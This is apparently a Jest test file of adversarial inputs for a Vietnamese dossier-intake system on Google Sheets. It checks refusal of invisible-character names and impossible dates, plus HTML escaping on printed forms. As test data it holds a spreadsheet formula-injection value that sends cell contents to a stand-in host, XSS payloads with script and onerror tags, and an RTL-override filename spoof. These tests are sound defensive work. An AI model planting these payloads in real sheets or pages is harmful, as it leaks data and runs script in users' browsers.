/** Hostile edits and faults (from an adversarial review): odd text, odd dates, zones, catalogue periods, printed forms. */
import { intakeContext, submitIntake } from '../../../src/server/intake';
import { formHtml } from '../../../src/server/forms/gather';
import { runSetup } from '../../../src/server/setup';
import { lookupDossier, submitUpdate } from '../../../src/server/update';
import { REGISTER_COLUMNS, TABS } from '../../../src/sheets/schema';
import { intakeInput, readyUnit, setCataloguePeriod } from '../../helpers';

const col = (h: (typeof REGISTER_COLUMNS)[number]) => REGISTER_COLUMNS.indexOf(h) + 1;
let n = 0;
const req = () => `inputs-${String((n += 1)).padStart(6, '0')}`;

describe('odd text', () => {
  it.each([
    ['LRM only', '\u200e\u200e'],
    ['RLM only', '\u200f'],
    ['Hangul filler', '\u3164\u3164'],
    ['Braille blank', '\u2800\u2800'],
    ['combining marks only', '\u0301\u0303'],
    ['variation selector', '\ufe0f'],
    ['invisible operators', '\u2061\u2062\u2063'],
    ['CGJ', '\u034f\u034f'],
    ['Mongolian vowel separator', '\u180e'],
  ])('an applicant name made only of %s is refused', (_label, name) => {
    const { run } = readyUnit();
    const r = run((s) => submitIntake(s, intakeInput({ applicantName: name })));
    expect(r.ok).toBe(false);
  });

  it('a one-line field with U+2028 (line separator) is refused like a newline', () => {
    const { run } = readyUnit();
    const r = run((s) => submitIntake(s, intakeInput({ applicantName: 'Nguyễn\u2028Thị Hoa' })));
    expect(r).toEqual({
      ok: false,
      errors: { applicantName: 'Họ tên người nộp có ký tự điều khiển hoặc xuống dòng; hãy gõ lại trên một dòng.' },
    });
  });

  it('formulas, apostrophes, emoji, RTL override, 50,000 characters', () => {
    const { run } = readyUnit();
    const cases = {
      formula: run((s) => submitIntake(s, intakeInput({ applicantName: '=IMPORTXML("http://x.example/?"&B2,"//a")' }))),
      plus: run((s) => submitIntake(s, intakeInput({ address: '+84 thôn Đông', receivedAt: '2026-03-02T08:31' }))),
      apostrophe: run((s) => submitIntake(s, intakeInput({ applicantName: "'Nguyễn Thị Hoa", receivedAt: '2026-03-02T08:32' }))),
      emoji: run((s) => submitIntake(s, intakeInput({ applicantName: 'Hoa 🌸👩‍👩‍👧', receivedAt: '2026-03-02T08:33' }))),
      rtl: run((s) => submitIntake(s, intakeInput({ applicantName: 'Hoa\u202egnp.exe', receivedAt: '2026-03-02T08:34' }))),
      long: run((s) => submitIntake(s, intakeInput({ documents: 'x'.repeat(50000), receivedAt: '2026-03-02T08:35' }))),
      nul: run((s) => submitIntake(s, intakeInput({ documents: 'a\u0000b', receivedAt: '2026-03-02T08:36' }))),
    };
    const stored = run((_s, ss) => {
      const sheet = ss.getSheetByName(TABS.register)!;
      return {
        values: sheet.getRange(2, col('Người nộp'), 4, 3).getValues(),
        formulas: sheet.getRange(2, 1, 4, REGISTER_COLUMNS.length).getFormulas().flat().filter(Boolean),
      };
    });
    expect(stored.formulas).toEqual([]);
    expect(cases.formula.ok && cases.plus.ok && cases.apostrophe.ok && cases.emoji.ok).toBe(true);
    expect(stored.values.map((r) => r[0])).toEqual([
      '=IMPORTXML("http://x.example/?"&B2,"//a")',
      'Nguyễn Thị Hoa',
      "'Nguyễn Thị Hoa",
      'Hoa 🌸👩‍👩‍👧',
    ]);
    expect(stored.values[1]![2]).toBe('+84 thôn Đông');
    expect(cases.rtl).toEqual({
      ok: false,
      errors: { applicantName: 'Họ tên người nộp có ký tự điều khiển hoặc xuống dòng; hãy gõ lại trên một dòng.' },
    });
    expect(cases.long).toEqual({ ok: false, errors: { documents: 'Danh sách giấy tờ quá dài (tối đa 2.000 ký tự).' } });
    expect(cases.nul).toEqual({
      ok: false,
      errors: { documents: 'Danh sách giấy tờ có ký tự điều khiển không in được (như NUL, ESC); hãy gõ lại.' },
    });
  });
});

describe('odd dates', () => {
  it('a receipt on Tết, on 29/02, at 1999-12-31, in 2100, a few minutes ahead', () => {
    const { run } = readyUnit(new Date('2028-03-01T02:00:00Z'));
    const results = {
      feb29: run((s) => submitIntake(s, intakeInput({ receivedAt: '2028-02-29T16:00' }))),
      tet: run((s) => submitIntake(s, intakeInput({ receivedAt: '2028-01-26T09:00', channel: 'Trực tuyến' }))),
      y1999: run((s) => submitIntake(s, intakeInput({ receivedAt: '1999-12-31T09:00' }))),
      y2100: run((s) => submitIntake(s, intakeInput({ receivedAt: '2100-01-01T09:00' }))),
      ahead: run((s) => submitIntake(s, intakeInput({ receivedAt: '2028-03-01T09:05' }))),
      ahead6: run((s) => submitIntake(s, intakeInput({ receivedAt: '2028-03-01T09:07' }))),
      badDay: run((s) => submitIntake(s, intakeInput({ receivedAt: '2027-02-29T09:00' }))),
      hour24: run((s) => submitIntake(s, intakeInput({ receivedAt: '2028-02-28T24:00' }))),
    };
    // Tết 2028 is 26/01; the calendar of 2028 is statutory (no schedule announced yet).
    expect(results.feb29).toMatchObject({ ok: true, dueAt: '2028-03-09T17:00' });
    expect(results.tet).toMatchObject({ ok: true });
    expect(results.y1999).toEqual({
      ok: false,
      errors: { receivedAt: 'Thời điểm tiếp nhận 31/12/1999 09:00 trước năm 2000; hãy kiểm tra lại năm.' },
    });
    for (const later of [results.y2100, results.ahead6]) {
      expect(later).toEqual({ ok: false, errors: { receivedAt: 'Thời điểm tiếp nhận không được sau thời điểm hiện tại.' } });
    }
    expect(results.ahead.ok).toBe(true); // a clock five minutes ahead is not "the future"
    for (const bad of [results.badDay, results.hour24]) {
      expect(bad).toEqual({ ok: false, errors: { receivedAt: 'Thời điểm tiếp nhận không phải ngày giờ có thật.' } });
    }
  });

  it.each(['Asia/Kolkata', 'Europe/Paris'])(
    'spreadsheet zone %s: receipt, lookup and print agree on the wall time; setup keeps what people see',
    (tz) => {
      const { run } = readyUnit(new Date('2026-03-09T02:00:00Z'));
      run((_s, ss) => ss.setSpreadsheetTimeZone(tz));
      const r = run((s) => submitIntake(s, intakeInput({ receivedAt: '2026-03-08T02:30', channel: 'Trực tuyến' })));
      const code = r.ok ? r.code : '';
      const seen = run((s) => lookupDossier(s, code));
      run((s) => runSetup(s));
      const seenAfter = run((s) => lookupDossier(s, code));
      const shown = run(
        (_s, ss) => ss.getSheetByName(TABS.register)!.getRange(2, col('Thời điểm tiếp nhận')).getDisplayValues()[0]![0],
      );
      expect(seen.ok && seen.dossier.receivedAt).toBe('08/03/2026 02:30');
      expect(seenAfter.ok && seenAfter.dossier.receivedAt).toBe('08/03/2026 02:30');
      expect(shown).toBe('08/03/2026 02:30');
    },
  );

  it('update steps dated before the previous step are refused', () => {
    const { run } = readyUnit();
    const r = run((s) => submitIntake(s, intakeInput({ receivedAt: '2026-03-02T08:00' })));
    const code = r.ok ? r.code : '';
    expect(run((s) => submitUpdate(s, { requestId: req(), code, action: 'transfer', at: '2026-03-02T08:55' })).ok).toBe(true);
    const res = run((s) => submitUpdate(s, { requestId: req(), code, action: 'record-result', at: '2026-03-02T08:10' }));
    expect(res).toEqual({
      ok: false,
      errors: {
        form: 'Thời điểm 02/03/2026 08:10 trước bước đã ghi gần nhất của hồ sơ (02/03/2026 08:55); các bước phải ghi theo đúng thứ tự thời gian.',
      },
    });
  });
});

describe('catalogue periods', () => {
  it.each([[-3], [1.5], ['abc'], [0.0001], [1e9]])('catalogue period %p is refused with a message', (value) => {
    const { run } = readyUnit();
    setCataloguePeriod(run, '1.004194', value);
    const ctx = run((s) => intakeContext(s));
    expect(ctx.procedures.map((p) => p.code)).not.toContain('1.004194');
    expect(ctx.problems.some((p) => p.startsWith('Danh mục TTHC, dòng'))).toBe(true);
    expect(run((s) => submitIntake(s, intakeInput()))).toEqual({
      ok: false,
      errors: { procedureCode: 'Không tìm thấy thủ tục mã “1.004194” đang áp dụng trong Danh mục TTHC.' },
    });
  });
});

describe('printed forms', () => {
  it('hostile reasons are escaped; the note separator is not split', () => {
    const { run } = readyUnit();
    const r = run((s) =>
      submitIntake(s, intakeInput({ receivedAt: '2026-03-02T08:00', applicantName: '<img src=x onerror=alert(1)>' })),
    );
    const code = r.ok ? r.code : '';
    const reason = '</div><script>alert(1)</script>. Cần bổ sung: "quote" & \'apos\'';
    run((s) =>
      submitUpdate(s, {
        requestId: req(),
        code,
        action: 'request-supplement',
        at: '2026-03-02T08:50',
        missing: '<b>x</b>',
        reason,
      }),
    );
    const html = run((s) => formHtml(s, code, 'supplement'));
    expect(html).not.toContain('<script>alert');
    expect(html).not.toContain('<img src=x');
    expect(html).toContain('Lý do: &lt;/div&gt;&lt;script&gt;');
  });

  it('no refusal, stop or apology notice for a dossier that never had that step', () => {
    const { run } = readyUnit();
    const r = run((s) => submitIntake(s, intakeInput({ receivedAt: '2026-03-02T08:00' })));
    const code = r.ok ? r.code : '';
    const out: Record<string, string> = {};
    for (const kind of ['refusal', 'stop', 'apology', 'supplement']) {
      try {
        out[kind] = run((s) => formHtml(s, code, kind)).slice(0, 0) + 'printed';
      } catch (e) {
        out[kind] = String(e);
      }
    }
    expect(Object.values(out).every((v) => v !== 'printed')).toBe(true);
  });
});
